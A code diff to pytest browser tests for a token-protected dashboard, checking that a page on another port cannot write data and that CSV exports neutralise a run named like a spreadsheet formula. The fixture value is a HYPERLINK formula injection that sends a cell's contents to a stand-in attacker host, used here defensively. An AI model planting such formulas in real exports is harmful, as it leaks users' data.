@@ -23,7 +23,7 @@ from typing import Any
 
 import pytest
 
-from _browser import CHROMIUM, LAUNCH_ARGS, require_browser, serving
+from _browser import serving
 from _servers import serve_handler
 
 pytestmark = pytest.mark.slow
@@ -32,13 +32,12 @@ TOKEN = "t0ken-27-browser"
 RUN_NAME = '=HYPERLINK("http://evil.test/?"&A1,"open")'
 
 
-@pytest.fixture(scope="module", autouse=True)
-def _browser_available() -> None:
-    require_browser()
-
-
 @pytest.fixture(scope="module")
-def dashboard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path, Path]]:
+def dashboard(
+    browser: Any, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[tuple[str, Path, Path]]:
+    """The token dashboard over a store whose run 1 is named like a formula (after
+    ``browser``, so a machine without Chromium skips before serving)."""
     from _web_fixtures import build_small, write_candidates
     from ragmeter.store import Store
 
@@ -80,12 +79,10 @@ def _written(store: Path, candidates: Path) -> tuple[Any, str]:
 
 
 def test_finding_06_a_page_on_another_port_cannot_write_in_chromium(
-    dashboard: tuple[str, Path, Path],
+    browser: Any, dashboard: tuple[str, Path, Path]
 ) -> None:
     """Issue 27.6: the logged-in victim's browser really sends the cookie from the page on
     the other port (the dashboard sees the requests), and the dashboard writes nothing."""
-    from playwright.sync_api import sync_playwright
-
     base, store, candidates = dashboard
     before = _written(store, candidates)
     seen: list[str] = []
@@ -102,8 +99,7 @@ def test_finding_06_a_page_on_another_port_cannot_write_in_chromium(
             self.end_headers()
             self.wfile.write(body)
 
-    with serve_handler(Attacker) as evil, sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
+    with serve_handler(Attacker) as evil:
         context = browser.new_context()
         page = context.new_page()
         page.goto(f"{base}/?token={TOKEN}")  # the victim logs in: the cookie is set
@@ -111,29 +107,25 @@ def test_finding_06_a_page_on_another_port_cannot_write_in_chromium(
         page.on("request", lambda r: seen.append(r.url) if r.url.startswith(base) else None)
         page.goto(evil + "/")
         page.wait_for_function("document.title.startsWith('sent')", timeout=15_000)
-        browser.close()
+        context.close()
     assert len([url for url in seen if "/api/" in url]) == 4  # the browser did send them
     time.sleep(0.2)
     assert _written(store, candidates) == before
 
 
 def test_finding_07_in_page_table_exports_neutralise_formulas_in_chromium(
-    dashboard: tuple[str, Path, Path],
+    browser: Any, dashboard: tuple[str, Path, Path]
 ) -> None:
     """Issue 27.7: the runs table's in-page CSV export (built by the page's script) writes a
     run named like a formula behind a single quote; numbers stay numbers."""
-    from playwright.sync_api import sync_playwright
-
     base, _, _ = dashboard
-    with sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
-        context = browser.new_context()
-        page = context.new_page()
-        page.goto(f"{base}/?token={TOKEN}")
-        with page.expect_download() as info:
-            page.locator('p.table-export[data-table="runs-table"] a.export-csv').click()
-        text = Path(info.value.path()).read_text(encoding="utf-8")
-        browser.close()
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{base}/?token={TOKEN}")
+    with page.expect_download() as info:
+        page.locator('p.table-export[data-table="runs-table"] a.export-csv').click()
+    text = Path(info.value.path()).read_text(encoding="utf-8")
+    context.close()
     rows = list(csv.DictReader(io.StringIO(text)))
     names = [row["name"] for row in rows]
     assert "'" + RUN_NAME in names and RUN_NAME not in names
